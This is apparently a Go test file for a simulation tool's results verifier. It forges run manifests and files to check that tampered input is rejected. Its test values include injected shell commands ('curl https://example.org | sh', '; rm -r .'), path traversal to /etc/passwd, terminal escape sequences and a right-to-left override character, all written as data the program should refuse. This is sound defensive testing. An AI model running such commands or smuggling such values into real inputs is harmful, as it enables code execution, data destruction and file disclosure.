package runs

import (
	"context"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"corridor/sim/tables"

	"github.com/stretchr/testify/require"
)

// readers are all ways to read a run directory.
var readers = map[string]func(dir string) error{
	"verify": func(dir string) error {
		v, err := Verify(context.Background(), dir, drawing)
		if err == nil && len(v.Differences) > 0 {
			err = &Error{Mismatch, errors.New(strings.Join(v.Differences, "\n") + "\n")}
		}
		return err
	},
	"read whole":  func(dir string) error { _, err := ReadFinished(context.Background(), dir); return err },
	"read tables": func(dir string) error { _, _, err := ReadTables(context.Background(), dir); return err },
	"merge":       func(dir string) error { _, err := Merge(context.Background(), []string{dir}, Merging{}); return err },
}

// drawing draws charts and reports that are the same whenever they are made.
var drawing = Pictures{
	Charts: func(_ context.Context, p *tables.Package, formats []string) (Files, error) {
		drawn := Files{}
		for _, format := range formats {
			drawn["charts/throughput."+format] = []byte(p.Name + " as " + format)
		}
		return drawn, nil
	},
	Report: func(title, lang string, about *Finished) ([]byte, error) {
		return []byte(title + " of " + about.Manifest.Scenario), nil
	},
}

// drawn makes the results of a plan with charts.
func drawn(t *testing.T, p Plan) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "r")
	r, err := Open(p, Request{Scenario: "line.yaml"}, dir)
	require.NoError(t, err)
	defer r.Close()
	require.NoError(t, r.Do(context.Background(), &How{Workers: 1, Pictures: drawing, Formats: []string{"svg"}}))
	return dir
}

// ofKind requires an error of a kind, and returns what it says.
func ofKind(t *testing.T, kind Kind, err error, about ...any) string {
	t.Helper()
	var of *Error
	require.ErrorAs(t, err, &of, about...)
	require.Equal(t, kind, of.Kind, about...)
	return err.Error()
}

// forge changes the manifest of a copy of a run directory, and returns the copy.
func forge(t *testing.T, dir string, change func(m map[string]any)) string {
	t.Helper()
	forged := filepath.Join(t.TempDir(), "r")
	require.NoError(t, os.CopyFS(forged, os.DirFS(dir)))
	file := filepath.Join(forged, ManifestFile)
	text, err := os.ReadFile(file)
	require.NoError(t, err)
	m := map[string]any{}
	require.NoError(t, json.Unmarshal(text, &m))
	change(m)
	text, err = json.Marshal(m)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(file, text, 0o600))
	return forged
}

// A manifest that this program did not write is invalid input of every command that
// reads one, whatever it says.
func TestForgedManifests(t *testing.T) {
	draw := uint64(3)
	dir := filepath.Join(t.TempDir(), "r")
	done(t, &Single{Scenario: loaded(t), Sampling: sampling, Draw: &draw}, dir)
	first := func(m map[string]any) map[string]any { return m["outputs"].([]any)[0].(map[string]any) }
	put := func(key string, value any) func(map[string]any) {
		return func(m map[string]any) { m[key] = value }
	}
	path := func(path string) func(map[string]any) {
		return func(m map[string]any) { first(m)["path"] = path }
	}
	for name, change := range map[string]func(map[string]any){
		"format":     put("format", "corridor-results/2"),
		"program":    put("program", "curl https://example.org | sh; corridor"),
		"no program": put("program", ""),
		"version":    put("version", "0.1.0 && rm -r ."),
		"commit":     put("commit", "trusted"),
		"command":    put("command", "run; rm -r ."),
		"a command of ours that writes no results": put("command", "show"),
		"a command that needs more":                put("command", "compare"),
		"part 0 of 0":                              put("command", "shard"),
		"design":                                   put("design", "sobol; rm -r ."),
		"draws":                                    put("draws", uint64(1)<<40),
		"draws of none":                            put("draws", 0),
		"draw":                                     put("draw", 1000),
		"seed":                                     put("seed", "7; rm -r ."),
		"precision":                                put("precision", 2),
		"charts":                                   put("charts", []any{"gif"}),
		"scenario":                                 put("scenario", "another"),
		"warnings":                                 put("warnings", 1),
		"no scenario":                              put("effective", []any{}),
		"above":                                    path("../line.yaml"),
		"above, later":                             path("charts/../../line.yaml"),
		"absolute":                                 path("/etc/passwd"),
		"a device":                                 path("../../../../../dev/zero"),
		"itself":                                   path("manifest.json"),
		"the directory":                            path("."),
		"nothing":                                  path(""),
		"not clean":                                path("charts//a.svg"),
		"of Windows":                               path(`charts\a.svg`),
		"a terminal's":                             path("\x1b[2Jannual.csv"),
		"turned about":                             path("\u202evsc.launna"),
		"twice":                                    func(m map[string]any) { m["outputs"] = append(m["outputs"].([]any), first(m)) },
		"bytes":                                    func(m map[string]any) { first(m)["bytes"] = -1 },
		"hash":                                     func(m map[string]any) { first(m)["sha256"] = "x" },
		"hash of scenario":                         func(m map[string]any) { m["effective"].([]any)[0].(map[string]any)["sha256"] = "<b>" },
		"drawn elsewhere":                          put("drawn", []any{map[string]any{"path": "new.csv", "bytes": 0, "sha256": hash(nil)}}),
	} {
		t.Run(name, func(t *testing.T) {
			forged := forge(t, dir, change)
			for way, read := range readers {
				text := ofKind(t, Invalid, read(forged), way)
				require.NotContains(t, text, "\x1b")
				require.NotContains(t, text, "\u202e")
			}
		})
	}
}

// A difference is found wherever it is: in a file, in the manifest, or in what only one
// of them knows.
func TestVerifyFindsEveryDifference(t *testing.T) {
	dir := drawn(t, &Single{Scenario: loaded(t)})
	require.NoError(t, AddCharts(dir, Files{"charts/throughput-kk.svg": []byte("kk")}, nil))
	f, err := ReadFinished(context.Background(), dir)
	require.NoError(t, err)
	page, err := drawing.Report("", "", f)
	require.NoError(t, err)
	require.NoError(t, AddReport(dir, page, "", "", f.Manifest.Outputs))
	require.NoError(t, readers["verify"](dir))

	type change struct {
		manifest func(m map[string]any)
		file     func(t *testing.T, dir string)
		want     string
	}
	strike := func(list, path string) func(map[string]any) {
		return func(m map[string]any) {
			var kept []any
			for _, o := range m[list].([]any) {
				if o.(map[string]any)["path"] != path {
					kept = append(kept, o)
				}
			}
			m[list] = kept
		}
	}
	file := func(name, content string) func(*testing.T, string) {
		return func(t *testing.T, dir string) {
			require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
			require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0o600))
		}
	}
	remove := func(name string) func(*testing.T, string) {
		return func(t *testing.T, dir string) { require.NoError(t, os.RemoveAll(filepath.Join(dir, name))) }
	}
	listed := func(name, content string) func(map[string]any) {
		return func(m map[string]any) {
			m["outputs"] = append(m["outputs"].([]any), map[string]any{"path": name, "bytes": len(content), "sha256": hash([]byte(content))})
		}
	}
	for name, c := range map[string]change{
		"a file changed":              {nil, file("annual.csv", "x"), "annual.csv: the file has been changed since it was written\n"},
		"a file and its hash":         {func(m map[string]any) { strike("outputs", "annual.csv")(m); listed("annual.csv", "x")(m) }, file("annual.csv", "x"), "annual.csv: a new run gives another result\n"},
		"a file gone":                 {nil, remove("annual.csv"), "annual.csv: the file is missing\n"},
		"a file struck":               {strike("outputs", "annual.csv"), nil, "annual.csv: a new run writes it, and the manifest does not list it\n"},
		"a file struck and gone":      {strike("outputs", "annual.csv"), remove("annual.csv"), "annual.csv: a new run writes it, and the manifest does not list it\n"},
		"a chart struck":              {strike("outputs", "charts/throughput.svg"), nil, "charts/throughput.svg: a new run writes it, and the manifest does not list it\n"},
		"all struck":                  {func(m map[string]any) { m["outputs"] = []any{} }, nil, "monthly.csv: a new run writes it"},
		"a file added":                {nil, file("new.csv", "x"), "new.csv: the manifest does not list it\n"},
		"a chart added":               {nil, file("charts/new.svg", "x"), "charts/new.svg: the manifest does not list it\n"},
		"a directory added":           {nil, file("more/new.csv", "x"), "more/: the manifest does not list it\n"},
		"a name for terminals":        {nil, file("\x1b[2Jnew.csv", "x"), `\u001b[2Jnew.csv: the manifest does not list it` + "\n"},
		"a file added and listed":     {listed("new.csv", "x"), file("new.csv", "x"), "new.csv: a new run does not write it\n"},
		"what was drawn later":        {nil, file("charts/throughput-kk.svg", "x"), "charts/throughput-kk.svg: the file has been changed since it was written\n"},
		"what was drawn later struck": {strike("drawn", "charts/throughput-kk.svg"), nil, "charts/throughput-kk.svg: the manifest does not list it\n"},
		"the report":                  {nil, file("report.html", "x"), "report.html: the file has been changed since it was written\n"},
		"the title of the report":     {func(m map[string]any) { m["report"].(map[string]any)["title"] = "x" }, nil, "report.html: a new run gives another result\n"},
		"a link":                      {nil, linked("annual.csv", "monthly.csv"), "annual.csv: it is not a regular file\n"},
		"a directory by a link":       {nil, linked("charts", "../r"), "charts/throughput.svg: it is not a regular file\n"},
		"a directory for a file":      {nil, func(t *testing.T, dir string) { remove("annual.csv")(t, dir); file("annual.csv/x", "")(t, dir) }, "annual.csv: it is not a regular file\n"},
		"a hole":                      {nil, hole("annual.csv", 1<<40), "annual.csv: the file has been changed since it was written\n"},
		"a hole that is listed": {func(m map[string]any) {
			strike("outputs", "annual.csv")(m)
			m["outputs"] = append(m["outputs"].([]any), map[string]any{"path": "annual.csv", "bytes": 1 << 40, "sha256": hash(nil)})
		}, hole("annual.csv", 1<<40), "annual.csv: a new run gives another result\n"},
	} {
		t.Run(name, func(t *testing.T) {
			if c.manifest == nil {
				c.manifest = func(map[string]any) {}
			}
			forged := forge(t, dir, c.manifest)
			if c.file != nil {
				c.file(t, forged)
			}
			require.Contains(t, ofKind(t, Mismatch, readers["verify"](forged)), c.want)
		})
	}
	for _, name := range []string{".DS_Store", ".results.writing-123/x"} {
		forged := forge(t, dir, func(map[string]any) {})
		file(name, "x")(t, forged)
		require.NoError(t, readers["verify"](forged))
	}
}

// linked puts a link in the place of a file.
func linked(name, to string) func(t *testing.T, dir string) {
	return func(t *testing.T, dir string) {
		require.NoError(t, os.RemoveAll(filepath.Join(dir, name)))
		require.NoError(t, os.Symlink(to, filepath.Join(dir, name)))
	}
}

// hole makes a file of so many bytes, which take no room.
func hole(name string, bytes int64) func(t *testing.T, dir string) {
	return func(t *testing.T, dir string) {
		if err := os.Truncate(filepath.Join(dir, name), bytes); err != nil {
			t.Skipf("no file of %d bytes here: %v", bytes, err)
		}
	}
}

// What is not a file of a run directory, or larger than one can be, is read by no command.
func TestIrregularFiles(t *testing.T) {
	dir := line(t)
	outside := filepath.Join(t.TempDir(), "outside")
	require.NoError(t, os.CopyFS(outside, os.DirFS(dir)))
	for what, change := range irregular(outside) {
		for _, name := range []string{"annual.csv", "datapackage.json", ManifestFile} {
			t.Run(what+" for "+name, func(t *testing.T) {
				forged := forge(t, dir, func(map[string]any) {})
				change(name)(t, forged)
				for way, read := range readers {
					want := Invalid
					if way == "verify" && name != ManifestFile {
						want = Mismatch
					}
					ofKind(t, want, read(forged), way)
				}
			})
		}
	}
}

// A file that is there and cannot be read is neither the same nor different.
func TestVerifyOfUnreadableFile(t *testing.T) {
	dir := line(t)
	require.NoError(t, os.Chmod(filepath.Join(dir, "annual.csv"), 0))
	if f, err := os.Open(filepath.Join(dir, "annual.csv")); err == nil {
		f.Close()
		t.Skip("this user may read everything")
	}
	for _, way := range []string{"verify", "read whole", "read tables"} {
		err := readers[way](dir)
		require.ErrorIs(t, err, fs.ErrPermission, way)
		require.False(t, errors.As(err, new(*Error)), "%s: an error of the machine is of no kind", way)
	}
}
